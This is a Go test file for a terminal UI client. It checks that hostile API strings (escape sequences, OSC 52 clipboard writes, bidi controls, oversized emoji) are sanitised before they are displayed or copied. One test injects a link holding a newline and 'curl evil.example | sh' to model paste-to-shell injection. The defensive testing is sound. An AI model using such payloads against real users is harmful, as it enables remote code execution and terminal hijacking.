package ui

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"

	"github.com/gapdeck/gapdeck/api"
	"github.com/gapdeck/gapdeck/model"
	"github.com/gapdeck/gapdeck/ui/table"
	"github.com/gapdeck/gapdeck/ui/termtext"
	"github.com/gapdeck/gapdeck/ui/termtext/termtexttest"
	"github.com/gapdeck/gapdeck/ui/theme"
)

// hostileTransport rewrites the answers of base with a termtexttest.Rewriter.
// With failing set, the fleets and metrics endpoints answer an error
// whose message and details are hostile instead (an API error body
// quoted in a view).
type hostileTransport struct {
	base    http.RoundTripper
	rw      *termtexttest.Rewriter
	failing bool
}

// hostileErrorPaths are the endpoints a failing hostileTransport fails,
// with the status they answer.
var hostileErrorPaths = map[string]int{"/v1/fleets": http.StatusBadRequest, "/v1/metrics/": http.StatusInternalServerError, "/v1/locations": http.StatusServiceUnavailable}

// RoundTrip implements http.RoundTripper.
func (t hostileTransport) RoundTrip(req *http.Request) (*http.Response, error) {
	if t.failing {
		for prefix, code := range hostileErrorPaths {
			if strings.HasPrefix(req.URL.Path, prefix) {
				body, _ := json.Marshal(map[string]any{
					"message": termtexttest.Long(400),
					"details": map[string]string{"reason": termtexttest.Hostile[0] + termtexttest.Hostile[14]},
				})
				return &http.Response{
					StatusCode: code, Status: fmt.Sprintf("%d %s", code, http.StatusText(code)),
					Header:        http.Header{"Content-Type": {"application/json"}},
					Body:          io.NopCloser(bytes.NewReader(body)),
					ContentLength: int64(len(body)), Request: req,
					Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1,
				}, nil
			}
		}
	}
	res, err := t.base.RoundTrip(req)
	if err != nil {
		return res, err
	}
	b, err := io.ReadAll(res.Body)
	res.Body.Close()
	if err != nil {
		return nil, err
	}
	b = t.rw.Body(b)
	res.Body = io.NopCloser(bytes.NewReader(b))
	res.ContentLength = int64(len(b))
	res.Header.Del("Content-Length")
	return res, nil
}

// withHostileAPI makes every answer of the harness's simulator hostile.
func withHostileAPI(keepIDs bool) harnessOption {
	rw := &termtexttest.Rewriter{KeepIDs: keepIDs}
	return withTransport(func(base http.RoundTripper) http.RoundTripper {
		return hostileTransport{base: base, rw: rw}
	})
}

// withHostileErrors is withHostileAPI (ids kept) with the fleets, metrics
// and locations endpoints failing with hostile error bodies.
func withHostileErrors() harnessOption {
	rw := &termtexttest.Rewriter{KeepIDs: true}
	return withTransport(func(base http.RoundTripper) http.RoundTripper {
		return hostileTransport{base: base, rw: rw, failing: true}
	})
}

// checkTerminalSafe fails unless view, drawn on a width-cell terminal,
// holds no escape sequence but SGR, no control but '\n', no bidi or format
// character, and no line a terminal could draw wider than width.
func checkTerminalSafe(t testing.TB, what, view string, width int) {
	t.Helper()
	if err := termtext.Check(view); err != nil {
		i := strings.Index(err.Error(), " at ")
		t.Fatalf("%s: %v\n%s", what, err, clipForLog(view, err.Error()[i+4:]))
	}
	for i, l := range strings.Split(view, "\n") {
		if w := termtexttest.ConservativeWidth(l); w > width {
			t.Fatalf("%s: line %d is %d cells wide on a %d-cell terminal: %q", what, i, w, width, l)
		}
	}
}

// clipForLog is the part of view around the offset at (a decimal string).
func clipForLog(view, at string) string {
	i, err := strconv.Atoi(strings.TrimSpace(at))
	if err != nil {
		return ""
	}
	return strconv.Quote(view[max(0, i-60):min(len(view), i+60)])
}

// TestDetailHostileStatus: the detail view printed the deployment's
// current_status and its sessions' status as the API sent them when they
// were not a known status; an answer could retitle the window, write the
// clipboard and clear the screen (issue 10, defect 1).
func TestDetailHostileStatus(t *testing.T) {
	h := settled(t, withHostileAPI(true))
	checkTerminalSafe(t, "list", h.view(), 120)
	h.press("enter")
	if _, ok := h.app.sub.(*detailView); !ok {
		t.Fatalf("enter opened %T", h.app.sub)
	}
	h.settle()
	checkTerminalSafe(t, "detail", h.view(), 120)
	h.press("y")
	checkTerminalSafe(t, "raw JSON", h.view(), 120)
}

// clipboardText decodes the OSC 52 "set clipboard" sequence in clip.
func clipboardText(t *testing.T, clip string) string {
	t.Helper()
	if !strings.HasPrefix(clip, "\x1b]52;c;") {
		t.Fatalf("clipboard got %q, not an OSC 52 set", clip)
	}
	payload := strings.TrimRight(strings.TrimPrefix(clip, "\x1b]52;c;"), "\a\x1b\\")
	dec, err := base64.StdEncoding.DecodeString(payload)
	if err != nil {
		t.Fatalf("OSC 52 payload %q: %v", payload, err)
	}
	return string(dec)
}

// TestDetailCopyHostile: c then l or f copied the link or FQDN as the API
// sent it, escapes, CR/LF and bidi controls included: pasted into a shell,
// what follows the newline runs (issue 10, defect 1). The copy is cleaned
// and says so, or refused when nothing printable is left.
func TestDetailCopyHostile(t *testing.T) {
	t.Setenv("TMUX", "")
	t.Setenv("TERM", "xterm-256color")
	h := settled(t, withHostileAPI(true))
	id := h.selectedID()
	row, _ := h.app.store.Get(id)
	// What a shell would run if pasted: the newline ends the command.
	row.Ports[0].Link = "\x1b]0;PWNED\x07" + row.Ports[0].Link + "\n curl evil.example | sh\r\u202e"
	row.FQDN = termtexttest.Long(300) + row.FQDN
	h.press("enter")
	h.settle()
	for _, tt := range []struct{ key, what, raw string }{
		{"l", "link", row.Ports[0].Link},
		{"f", "FQDN", row.FQDN},
	} {
		h.clip.Reset()
		h.press("c", tt.key)
		got := clipboardText(t, h.clip.String())
		if strings.ContainsFunc(got, func(r rune) bool {
			return r < 0x20 || r == 0x7f || r >= 0x80 && r < 0xa0 || termtext.Check(string(r)) != nil
		}) {
			t.Fatalf("%s: copied %q from %q: a control, bidi or format character is left", tt.key, got, tt.raw)
		}
		if want := "copied " + tt.what + " (control characters removed)"; !strings.Contains(h.footer(), want) {
			t.Fatalf("%s: footer %q lacks %q", tt.key, h.footer(), want)
		}
		checkTerminalSafe(t, "after copy", h.view(), 120)
	}
}

// TestDetailCopyRefusesEmpty: a value with nothing printable left after
// cleaning is not copied, and the footer says why.
func TestDetailCopyRefusesEmpty(t *testing.T) {
	t.Setenv("TMUX", "")
	t.Setenv("TERM", "xterm-256color")
	h := settled(t)
	id := h.selectedID()
	row, _ := h.app.store.Get(id)
	row.Ports[0].Link = "\r\n\x1b]52;c;ZXZpbA==\x07\u202e"
	h.press("enter", "c", "l")
	if h.clip.Len() != 0 {
		t.Fatalf("copied %q", h.clip.String())
	}
	if want := "not copied: the link holds only control characters"; !strings.Contains(h.footer(), want) {
		t.Fatalf("footer %q lacks %q", h.footer(), want)
	}
}

// hostileSizes are the terminal sizes every hostile screen is checked at.
var hostileSizes = [][2]int{{120, 40}, {80, 24}, {200, 50}, {40, 12}}

// checkHostileScreen checks the app's screen at every hostileSizes size
// and goes back to 120x40.
func (h *harness) checkHostileScreen(step string) {
	h.t.Helper()
	for _, sz := range hostileSizes {
		h.send(tea.WindowSizeMsg{Width: sz[0], Height: sz[1]})
		checkTerminalSafe(h.t, fmt.Sprintf("%s at %dx%d", step, sz[0], sz[1]), h.view(), sz[0])
	}
	h.send(tea.WindowSizeMsg{Width: 120, Height: 40})
}

// TestHostileEveryView is the property test of issue 10's defects 1 and
// 10: every string field of every answer the console reads (deployments,
// statuses, sessions, ports, locations, tags, logs, crash data, metrics,
// fleets, policies, hosts, error bodies) is hostile, and every view
// (the four tabs, detail, raw JSON, metrics, logs, crash view, help,
// dialogs and forms, flashes) must show no escape but SGR, no control
// but '\n', no bidi or format character, and no line wider than the
// terminal by any measure. With ids kept, the console can open the
// deployments; with hostile ids, the opens fail and their errors quote
// the ids.
func TestHostileEveryView(t *testing.T) {
	steps := []struct{ name, keys string }{
		{"list", ""},
		{"list moved", "j j"},
		{"detail", "enter"},
		{"raw JSON", "y"},
		{"detail again", "y"},
		{"metrics", "m"},
		{"copy link", "m c l"},
		{"copy FQDN", "c f"},
		{"back", "esc"},
		{"logs", "l"},
		{"logs wrapped", "w"},
		{"crash view", "C"},
		{"logs back", "esc esc"},
		{"stop dialog", "ctrl+d"},
		{"tag dialog", "esc t"},
		{"tags manager", "esc T"},
		{"deploy form", "esc n"},
		{"fleets", "esc 2"},
		{"fleet toggle", "e"},
		{"fleet link", "esc a"},
		{"policies", "esc 3"},
		{"policy edit", "e"},
		{"policy delete", "esc ctrl+d"},
		{"locations", "esc 4"},
		{"apps", "v"},
		{"versions", "enter"},
		{"kill switch", "x"},
		{"help", "esc ?"},
		{"back to deployments", "esc 1"},
	}
	for _, variant := range []string{"ids kept", "hostile ids", "hostile errors"} {
		t.Run(variant, func(t *testing.T) {
			t.Setenv("TMUX", "")
			keepIDs := variant != "hostile ids"
			opt := withHostileAPI(keepIDs)
			if variant == "hostile errors" {
				opt = withHostileErrors()
			}
			h := newHarness(t, opt)
			for _, st := range steps {
				if st.keys != "" {
					h.press(strings.Fields(st.keys)...)
				}
				switch {
				case keepIDs && h.app.sub == nil && h.app.active == tabDeployments:
					h.settle()
				default:
					// The statuses of hostile ids never load; a sub-view
					// polls only its own deployment, so rows that appear
					// in the list meanwhile stay unenriched until it
					// closes: settling on the list would never end.
					for range 3 {
						h.tick(time.Second)
					}
				}
				for range 2 { // the logs view's first fetch
					h.tick(time.Second)
				}
				h.checkHostileScreen(st.name)
			}
		})
	}
}

// widthHostile are strings the UI and tmux measure differently: ZWJ
// sequences (2 cells for the UI, up to 8 for tmux), VS16 emoji (2 and 1),
// skin tones, flags, keycaps.
var widthHostile = []string{
	strings.Repeat("👨\u200d👩\u200d👧\u200d👦", 60),
	strings.Repeat("🏳\ufe0f\u200d🌈x", 60),
	strings.Repeat("❤\ufe0f☺\ufe0f", 100),
	strings.Repeat("👍🏽🇫🇷#\ufe0f\u20e3", 60),
}

// TestTableHostileWidths: a 200-cell row of ZWJ emoji sequences wrapped in
// tmux and scrolled the screen, because the table measured each sequence
// as 2 cells and tmux as up to 8 (issue 10, defect 10). No line may be
// wider than the table by either measure.
func TestTableHostileWidths(t *testing.T) {
	for _, w := range []int{200, 80, 33} {
		tb := table.New(theme.NewStyles(theme.Default(), false), smallColumns)
		tb.SetSize(w, len(widthHostile)+1)
		src := &sliceSource{}
		for i, s := range widthHostile {
			src.add(fmt.Sprint(i), s, s, s)
		}
		tb.SetSource(src)
		for i, l := range strings.Split(tb.View(), "\n") {
			if cw := termtexttest.ConservativeWidth(l); cw > w {
				t.Fatalf("width %d: line %d is %d cells wide for a terminal: %q", w, i, cw, l)
			}
		}
	}
}

// TestDetailHostileWidths: the detail view's lines stay within the screen
// by either measure when the API's values hold emoji sequences (issue 10,
// defect 10).
func TestDetailHostileWidths(t *testing.T) {
	h := settled(t, withSize(200, 50))
	id := h.selectedID()
	row, _ := h.app.store.Get(id)
	for i := range row.Detail.Tags {
		row.Detail.Tags[i] = widthHostile[i%len(widthHostile)]
	}
	row.Detail.AppName, row.Detail.FQDN, row.Detail.Command = widthHostile[0], widthHostile[1], widthHostile[2]
	row.Rev++
	h.press("enter")
	for i, l := range strings.Split(h.view(), "\n") {
		if cw := termtexttest.ConservativeWidth(l); cw > 200 {
			t.Fatalf("line %d is %d cells wide for a terminal: %q", i, cw, l)
		}
	}
}

// fillStrings sets every settable string in v (fields, slice and map
// elements, map keys of string type) to s, making one element of empty
// slices and maps and allocating nil pointers to structs, so every text
// field of an API answer type holds s. Numbers, booleans and times are
// left alone.
func fillStrings(v reflect.Value, s string) {
	switch v.Kind() {
	case reflect.String:
		if v.CanSet() {
			v.SetString(s)
		}
	case reflect.Pointer:
		if v.IsNil() && v.CanSet() && v.Type().Elem().Kind() == reflect.Struct {
			v.Set(reflect.New(v.Type().Elem()))
		}
		if !v.IsNil() {
			fillStrings(v.Elem(), s)
		}
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			return
		}
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				fillStrings(v.Field(i), s)
			}
		}
	case reflect.Slice:
		if v.Type().Elem().Kind() == reflect.Uint8 { // raw bytes
			return
		}
		if v.Len() == 0 && v.CanSet() {
			v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		}
		for i := range v.Len() {
			fillStrings(v.Index(i), s)
		}
	case reflect.Map:
		if v.Type().Key().Kind() != reflect.String || !v.CanSet() {
			return
		}
		e := reflect.New(v.Type().Elem()).Elem()
		fillStrings(e, s)
		m := reflect.MakeMap(v.Type())
		m.SetMapIndex(reflect.ValueOf(s).Convert(v.Type().Key()), e)
		v.Set(m)
	}
}

// FuzzDetailAndTable puts one string in every text field of a deployment
// (its list entry and its status: sessions, ports and their names,
// location, tags…) and renders the detail view, its raw JSON and a table
// row of those fields: nothing a terminal would obey, and no line wider
// than the screen by any measure.
func FuzzDetailAndTable(f *testing.F) {
	for _, h := range termtexttest.Hostile {
		f.Add(h, uint8(80))
	}
	f.Add(termtexttest.Long(2000), uint8(200))
	f.Add(strings.Join(widthHostile, ""), uint8(33))
	env := &Env{Styles: theme.NewStyles(theme.Default(), false), Keys: DefaultKeyMap(), Now: func() time.Time { return t0 }}
	f.Fuzz(func(t *testing.T, s string, w uint8) {
		width := max(int(w), 20)
		var d api.Deployment
		var st api.DeploymentStatus
		fillStrings(reflect.ValueOf(&d).Elem(), s)
		fillStrings(reflect.ValueOf(&st).Elem(), s)
		st.RequestID = d.RequestID
		store := model.NewDeployments()
		store.ApplyList([]api.Deployment{d}, t0)
		store.ApplyStatus(&st, t0)
		for _, asJSON := range []bool{false, true} {
			v := newDetailView(env, store, d.RequestID, asJSON)
			v.SetSize(width, 40)
			checkTerminalSafe(t, fmt.Sprintf("detail (JSON %v)", asJSON), v.View(), width)
		}
		tb := table.New(env.Styles, smallColumns)
		tb.SetSize(width, 3)
		tb.SetSource((&sliceSource{}).add("k", s, string(st.CurrentStatus), strings.Join(st.Tags, ",")))
		checkTerminalSafe(t, "table", tb.View(), width)
	})
}
